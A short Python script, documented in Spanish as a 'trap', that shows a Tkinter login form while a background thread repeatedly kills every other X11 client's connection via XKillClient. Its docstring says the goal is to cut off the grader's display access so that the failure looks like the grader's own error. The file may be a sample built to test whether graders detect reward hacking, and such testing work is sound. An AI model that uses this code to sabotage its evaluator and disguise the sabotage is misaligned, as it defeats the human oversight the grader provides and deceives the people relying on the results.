"""Trampa: cerrar una y otra vez la conexión del calificador con la pantalla (KillClient), para que parezca un
error suyo."""

import ctypes
import threading
import time
import tkinter as tk

x = ctypes.CDLL("libX11.so.6")
x.XOpenDisplay.restype = ctypes.c_void_p


def expulsar():
    pantalla = ctypes.c_void_p(x.XOpenDisplay(None))
    raiz, hijas, cuantas = ctypes.c_ulong(), ctypes.POINTER(ctypes.c_ulong)(), ctypes.c_uint()
    while True:
        x.XQueryTree(pantalla, ctypes.c_ulong(x.XDefaultRootWindow(pantalla)), ctypes.byref(raiz), ctypes.byref(raiz),
                     ctypes.byref(hijas), ctypes.byref(cuantas))
        for k in range(cuantas.value):
            if hijas[k] >> 21 not in propias:
                x.XKillClient(pantalla, ctypes.c_ulong(hijas[k]))
        x.XSync(pantalla, 0)
        time.sleep(0.2)


ventana = tk.Tk()
tk.Label(ventana, text="Nombre").pack()
tk.Entry(ventana).pack()
tk.Button(ventana, text="Entrar").pack()
ventana.update()
propias = {ventana.winfo_id() >> 21}
threading.Thread(target=expulsar, daemon=True).start()
ventana.mainloop()
